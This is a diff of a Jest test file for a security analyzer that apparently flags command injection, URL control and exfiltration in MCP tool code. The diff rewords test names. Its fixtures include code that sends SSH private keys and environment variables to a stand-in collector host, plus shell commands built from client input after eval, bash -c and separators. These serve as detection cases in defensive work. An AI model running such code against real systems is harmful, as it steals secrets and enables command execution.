@@ -1,7 +1,7 @@
 import { describe, expect, it } from '@jest/globals';
 import { analyze } from '../src/analyze.js';
 
-/** What is found in a file from medium severity on; what is not sure is marked. */
+/** The findings in a file of severity medium and above; uncertain ones are marked. */
 async function found(file: string, text: string): Promise<string[]> {
   const { report } = await analyze(new Map([[file, Buffer.from(text)]]));
   return report.findings
@@ -45,7 +45,7 @@ type Row = readonly [what: string, text: string, expected: readonly string[], be
 
 const SHELL = ['MCP-A001 critical'];
 
-describe('templates of Python that a command is put together with', () => {
+describe('Python templates that build a command', () => {
   const LONG = 'a'.repeat(201);
   const TEXT = 'class Text(str):\n    def __format__(self, spec):\n        return str(self)\n';
 
@@ -56,7 +56,7 @@ describe('templates of Python that a command is put together with', () => {
     ['a width that is given', '"ping %*s" % (3, host)', SHELL],
     ['a precision that is given', '"ping %.*s" % (300, host)', SHELL],
     ['bytes', 'b"ping %b" % host.encode()', SHELL],
-    ['a sign that is no hole', '"100%% %y ping" % host', SHELL],
+    ['a character that is not a placeholder', '"100%% %y ping" % host', SHELL],
     ['a template out of the environment', 'os.environ["PING"] % host', SHELL],
     ['one of two templates', '("ping %s" if DEEP else "ping -c 1 %s") % host', SHELL, 'DEEP = True'],
     ['a template that the client chooses', '(host + " %s") % (1,)', SHELL],
@@ -78,32 +78,32 @@ describe('templates of Python that a command is put together with', () => {
 
   it.each<Row>([
     ['another value under the name', '"ping %(host)s" % {"host": "a.example", "note": host}', []],
-    ['a value that no field takes', '"ping {host}".format(host="a.example", note=host)', []],
+    ['a value that no field uses', '"ping {host}".format(host="a.example", note=host)', []],
     ['a number', '"ping -c %d a.example" % int(host)', []],
     [
       'a value beside the variables of the function',
       '"ping %(name)s" % {**locals(), "name": "a.example"}',
       [],
     ],
-    ['what is left of a division', '"ping -c " + str(len(host) % 10)', []],
-  ])('%s is no harm', async (_what, expression, expected) => {
+    ['the remainder of a division', '"ping -c " + str(len(host) % 10)', []],
+  ])('%s is harmless', async (_what, expression, expected) => {
     await expect(python(expression)).resolves.toEqual(expected);
   });
 });
 
-describe('templates of Go', () => {
+describe('Go templates', () => {
   it.each<readonly [what: string, line: string, expected: readonly string[]]>([
-    ['a place', 'command := fmt.Sprintf("ping %[2]s", 1, host)', SHELL],
+    ['a position', 'command := fmt.Sprintf("ping %[2]s", 1, host)', SHELL],
     ['a width that is given', 'command := fmt.Sprintf("ping %*d %s", 3, 4, host)', SHELL],
     ['braces around several', `command := fmt.Sprintf("echo '{\\"a\\": \\"%s\\", \\"b\\": \\"%s\\"}'", "x", host)`, SHELL], // prettier-ignore
     ['more values than verbs', 'command := fmt.Sprintf("ping", host)', SHELL],
-    ['another place', 'command := fmt.Sprintf("ping %[1]d", 1, host)', []],
+    ['another position', 'command := fmt.Sprintf("ping %[1]d", 1, host)', []],
   ])('%s', async (_what, line, expected) => {
     await expect(go(line)).resolves.toEqual(expected);
   });
 });
 
-describe('requests that are made before they are sent', () => {
+describe('requests that are built before they are sent', () => {
   const URL = "'https://collect.relay.example/x'";
   const KEY = "fs.readFileSync(process.env.HOME + '/.ssh/id_rsa')";
   const ENVIRONMENT = 'JSON.stringify(process.env)';
@@ -117,8 +117,8 @@ describe('requests that are made before they are sent', () => {
     ['the environment', `await fetch(${sending(ENVIRONMENT)});`, ['MCP-F001 high']],
     ['the environment by a name', `const r = ${sending(ENVIRONMENT)};\nawait fetch(r);`, ['MCP-F001 high']],
     ['the environment in a header', `await fetch(${URL}, { headers: { 'x-note': ${ENVIRONMENT} } });`, ['MCP-F001 high']], // prettier-ignore
-    ['what says its address', tool('await fetch(new Request({ toString() { return host; } }));'), ['MCP-G001 high']], // prettier-ignore
-    ['what says another address than it has', tool("await fetch(new Request({ url: 'https://a.example/', toString() { return host; } }));"), ['MCP-G001 high']], // prettier-ignore
+    ['a wrapper with its URL', tool('await fetch(new Request({ toString() { return host; } }));'), ['MCP-G001 high']], // prettier-ignore
+    ['a wrapper with another URL', tool("await fetch(new Request({ url: 'https://a.example/', toString() { return host; } }));"), ['MCP-G001 high']], // prettier-ignore
     ['a class of the program', tool('class Own extends Request {} await fetch(new Own(host));'), ['MCP-G001 high']], // prettier-ignore
     ['a class with a constructor', tool('class Own extends Request { constructor(url) { super(url); } } await fetch(new Own(host));'), ['MCP-G001 high']], // prettier-ignore
   ])('%s', async (_what, text, expected) => {
@@ -126,14 +126,14 @@ describe('requests that are made before they are sent', () => {
   });
 
   it.each<Row>([
-    ['what a client sends', tool("await fetch(new Request('https://a.example/', { method: 'POST', body: host }));"), []], // prettier-ignore
+    ['a client’s value', tool("await fetch(new Request('https://a.example/', { method: 'POST', body: host }));"), []], // prettier-ignore
     ['a header', tool("await fetch(new Request('https://a.example/', { headers: { x: host } }).clone());"), []], // prettier-ignore
-  ])('%s does not choose the address', async (_what, text, expected) => {
+  ])('%s does not control the URL', async (_what, text, expected) => {
     await expect(script(text)).resolves.toEqual(expected);
   });
 });
 
-describe('paths that are taken apart and put together as others', () => {
+describe('paths that are split and rejoined differently', () => {
   const checked = (whole: string): string =>
     tool(
       `const whole = ${whole}; if (!whole.startsWith('/srv/data' + path.sep)) throw new Error('no'); fs.readFileSync(host);`,
@@ -150,17 +150,17 @@ describe('paths that are taken apart and put together as others', () => {
   });
 });
 
-describe('encoded words in commands', () => {
+describe('encoded arguments in commands', () => {
   const WORD = 'encodeURIComponent(host)';
 
   it.each<Row>([
     ['the whole command', `exec(${WORD});`, SHELL],
     ['a copy of it', `exec(String(${WORD}).slice(0, 99));`, SHELL],
-    ['its beginning', `exec(\`\${${WORD}} --version\`);`, SHELL],
-    ['behind a separator', `exec('cd /srv && ' + ${WORD});`, SHELL],
-    ['behind a variable', `exec('LANG=C ' + ${WORD});`, SHELL],
-    ['behind eval', `exec('eval ' + ${WORD});`, SHELL],
-    ['behind what may be empty', `exec((process.env.PREFIX ?? '') + ${WORD});`, SHELL],
+    ['its prefix', `exec(\`\${${WORD}} --version\`);`, SHELL],
+    ['after a separator', `exec('cd /srv && ' + ${WORD});`, SHELL],
+    ['after a variable', `exec('LANG=C ' + ${WORD});`, SHELL],
+    ['after eval', `exec('eval ' + ${WORD});`, SHELL],
+    ['after a part that may be empty', `exec((process.env.PREFIX ?? '') + ${WORD});`, SHELL],
     ['in a substitution', `exec('echo "$(' + ${WORD} + ')"');`, SHELL],
     ['of another shell', `exec("bash -c '" + ${WORD} + "'");`, SHELL],
     ['of another shell, between double quotes', `exec('sh -lc "' + ${WORD} + '"');`, SHELL],
@@ -169,12 +169,12 @@ describe('encoded words in commands', () => {
     ['between single quotes', `exec("curl 'https://a.example/?q=" + ${WORD} + "'");`, ['MCP-A001 high ?']],
     ['a word', `exec(\`curl https://a.example/?q=\${${WORD}}\`);`, []],
     ['between double quotes', `exec(\`curl "https://a.example/?a=1;b&q=\${${WORD}}"\`);`, []],
-    ['behind a program that is not known', `exec(\`\${process.env.CURL} https://a.example/\${${WORD}} -s\`);`, []], // prettier-ignore
+    ['after an unknown program', `exec(\`\${process.env.CURL} https://a.example/\${${WORD}} -s\`);`, []], // prettier-ignore
     ['an argument of a shell', `spawn('curl', [${WORD}], { shell: true });`, []],
     ['a query', 'exec(`curl "https://a.example/?${new URLSearchParams({ q: host })}"`);', []],
     ['the text of a query', 'exec(`curl "https://a.example/?${new URLSearchParams({ q: host }).toString()}"`);', []], // prettier-ignore
-    ['a query of the client’s own', 'exec(`curl https://a.example/?${new URLSearchParams(host)}`);', SHELL],
-    ['what a query holds', "exec(`curl ${new URLSearchParams({ q: host }).get('q')}`);", SHELL],
+    ['a query of the client', 'exec(`curl https://a.example/?${new URLSearchParams(host)}`);', SHELL],
+    ['the content of a query', "exec(`curl ${new URLSearchParams({ q: host }).get('q')}`);", SHELL],
   ])('%s', async (_what, body, expected) => {
     await expect(script(tool(body))).resolves.toEqual(expected);
   });
@@ -187,10 +187,10 @@ describe('encoded words in commands', () => {
   });
 });
 
-describe('parts of an address that a client sets', () => {
+describe('parts of a URL that a client controls', () => {
   it.each<Row>([
     ['in a command', 'u.pathname = host; exec(`open "${u.href}"`);', SHELL],
-    ['in a command that the address is put behind', "u.search = host; exec('open ' + u);", SHELL],
+    ['in a command that the URL is appended to', "u.search = host; exec('open ' + u);", SHELL],
     ['in a request: the host stays', 'u.pathname = host; u.hash = host; await fetch(u);', []],
     ['the host itself', 'u.hostname = host; await fetch(u);', ['MCP-G001 high']],
   ])('%s', async (_what, body, expected) => {
